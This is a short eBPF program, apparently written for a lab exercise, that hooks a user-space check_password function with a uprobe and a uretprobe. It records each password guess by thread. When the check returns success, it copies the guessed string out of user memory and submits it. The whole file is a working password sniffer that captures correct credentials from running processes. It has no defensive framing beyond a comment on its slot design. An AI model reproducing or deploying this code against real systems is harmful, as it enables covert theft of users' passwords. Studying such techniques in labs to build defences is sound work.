// No hash map: the thread id picks a slot of an array, and the slot remembers which thread
// wrote it, so a collision between two threads is seen rather than mixed up.
#include "lab.h"

#define SLOTS 256

struct pending {
	__u64 thread;
	__u64 guess;
};

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, SLOTS);
	__type(key, __u32);
	__type(value, struct pending);
} by_slot SEC(".maps");

SEC("uprobe/check_password")
int remember(struct pt_regs *ctx)
{
	__u64 id = bpf_get_current_pid_tgid();
	__u32 slot = (__u32)id % SLOTS;
	struct pending p = {.thread = id, .guess = ARG(ctx, 1)};

	bpf_map_update_elem(&by_slot, &slot, &p, BPF_ANY);
	return 0;
}

SEC("uretprobe/check_password")
int judge(struct pt_regs *ctx)
{
	__u64 id = bpf_get_current_pid_tgid();
	__u32 slot = (__u32)id % SLOTS;
	struct pending *p = bpf_map_lookup_elem(&by_slot, &slot);
	char text[128];
	long n;

	if (!p || p->thread != id)
		return 0;
	p->thread = 0;
	if (!RETVAL(ctx))
		return 0;
	n = bpf_probe_read_user_str(text, sizeof(text), (const void *)p->guess);
	if (n > 1)
		SUBMIT(text, n - 1);
	return 0;
}
